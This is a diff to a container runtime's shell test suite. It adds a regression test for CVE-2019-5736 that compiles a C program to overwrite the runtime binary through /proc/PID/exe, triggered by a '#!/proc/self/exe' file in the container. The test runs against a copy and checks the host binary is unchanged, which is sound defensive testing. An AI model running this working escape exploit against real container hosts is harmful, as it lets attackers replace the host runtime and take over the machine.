@@ -44,6 +44,86 @@ section_procs() {
   expect_eq "exec race: the runtime binary on the host is unchanged" "$sum" "$(sha256sum <"$copy")"
   rt delete --force "$id" >/dev/null 2>&1
 
+  # CVE-2019-5736 proper: an image binary "#!/proc/self/exe" makes the kernel run the
+  # runtime's own binary as the container process (on `exec` and as the init's program);
+  # a compiled attacker inside opens that process's /proc/PID/exe while it runs and writes
+  # through /proc/self/fd once it has exited (no ETXTBSY any more). The runtime used is a
+  # copy, compared afterwards.
+  if command -v cc >/dev/null 2>&1; then
+    cat >"$WORK/attack.c" <<'C'
+#include <dirent.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <sys/stat.h>
+#include <time.h>
+#include <unistd.h>
+int main(int argc, char** argv) {
+    struct stat self, bb;
+    stat("/proc/self/exe", &self);
+    stat("/bin/busybox", &bb);
+    time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 6);
+    while (time(NULL) < end) {
+        DIR* d = opendir("/proc");
+        struct dirent* e;
+        while (d && (e = readdir(d))) {
+            char p[64], q[64];
+            struct stat st;
+            if (e->d_name[0] < '1' || e->d_name[0] > '9') continue;
+            snprintf(p, sizeof p, "/proc/%s/exe", e->d_name);
+            int fd = open(p, O_RDONLY | O_CLOEXEC);
+            if (fd < 0) continue;
+            fstat(fd, &st);
+            if ((st.st_dev == self.st_dev && st.st_ino == self.st_ino) || (st.st_dev == bb.st_dev && st.st_ino == bb.st_ino)) {
+                close(fd);
+                continue;
+            }
+            printf("held %s\n", p);
+            snprintf(q, sizeof q, "/proc/self/fd/%d", fd);
+            for (int i = 0; i < 400; ++i) {
+                int w = open(q, O_WRONLY);
+                if (w >= 0) {
+                    if (write(w, "PWNED", 5) == 5) printf("wrote %s\n", p);
+                    close(w);
+                    break;
+                }
+                usleep(5000);
+            }
+            fflush(stdout);
+            close(fd);
+        }
+        if (d) closedir(d);
+    }
+    printf("finished\n");
+    return 0;
+}
+C
+    if cc -static -O2 -o "$WORK/attack" "$WORK/attack.c" 2>"$WORK/cc.err"; then
+      copy=$(new_dir rtcopy)/$RT_NAME
+      cp "$RT" "$copy"
+      sum=$(sha256sum <"$copy")
+      hd=$(new_dir selfexe)
+      b=$(fresh_bundle /bin/sh -c '/attack 5 >/log/attack 2>&1')
+      cp "$WORK/attack" "$b/rootfs/attack"
+      printf '#!/proc/self/exe\n' >"$b/rootfs/evil"
+      chmod 755 "$b/rootfs/evil"
+      cfg_py "$b" 'c["mounts"].append({"destination": "/log", "type": "bind", "source": "'"$hd"'", "options": ["bind", "rw"]})'
+      id=$(new_id selfexe)
+      timeout -k 5 "$T" "$copy" --root "$ROOT" run -d --bundle "$b" "$id" </dev/null >"$WORK/selfexe.out" 2>&1
+      sleep 0.3
+      for i in $(seq 10); do
+        timeout -k 5 "$T" "$copy" --root "$ROOT" exec "$id" /evil </dev/null >/dev/null 2>&1
+      done
+      wait_status "$id" stopped 10
+      diag "attacker: $(sort -u "$hd/attack" 2>/dev/null | head -5 | tr '\n' ';')"
+      expect_eq "#!/proc/self/exe via exec: the attacker ran to its end" finished "$(tail -n 1 "$hd/attack" 2>/dev/null)"
+      expect_eq "#!/proc/self/exe via exec: nothing written through the runtime's /proc/PID/exe" "" \
+        "$(grep '^wrote' "$hd/attack" 2>/dev/null | head -3)"
+      expect_eq "#!/proc/self/exe via exec: the runtime binary on the host is unchanged" "$sum" "$(sha256sum <"$copy")"
+      rt delete --force "$id" >/dev/null 2>&1
+    else skip "#!/proc/self/exe (CVE-2019-5736)" "cc -static failed: $(head -c 200 "$WORK/cc.err")"; fi
+  else skip "#!/proc/self/exe (CVE-2019-5736)" "no C compiler"; fi
+
   # fds: the caller's extra fds (5, 6), LISTEN_FDS, a console socket: only 0-2 (plus the
   # LISTEN_FDS ones, as runc) reach the container; none names the runtime, its state dir
   # or a cgroup
